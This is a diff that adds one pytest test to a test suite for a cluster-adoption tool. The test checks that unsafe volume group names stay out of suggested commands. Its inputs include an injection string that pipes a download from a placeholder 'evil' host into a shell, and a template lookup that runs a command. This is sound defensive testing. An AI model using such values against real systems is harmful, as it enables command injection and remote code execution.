@@ -210,6 +210,15 @@ def test_minors_that_two_instances_share_and_another_volume_group_are_told_of() 
     )
 
 
+@pytest.mark.parametrize("name", ["x; curl evil|sh #", "{{ lookup('pipe', 'id') }}", "--help", "", "a\nb", "\x1b[31m"])
+def test_a_volume_group_whose_name_could_not_be_set_is_in_no_command(name: str) -> None:
+    found, _ = adopted(hosts.host(1, groups={name: 7.0, "xenvg": 5.0}))
+    (line,) = found.advice
+    assert line.endswith("and the hosts have xenvg: `roundsman cluster modify vg_name=xenvg`")
+    found, _ = adopted(hosts.host(1, groups={name: 7.0}))
+    assert found.advice == ()
+
+
 def test_an_address_that_not_all_hosts_have_for_drbd_is_not_recorded() -> None:
     found, after = adopted(hosts.host(1, WEB, resources=(PAIR,), devices={"/dev/drbd3": 5}), hosts.host(2))
     assert [node.secondary_ip for node in after.nodes.values()] == ["", ""]
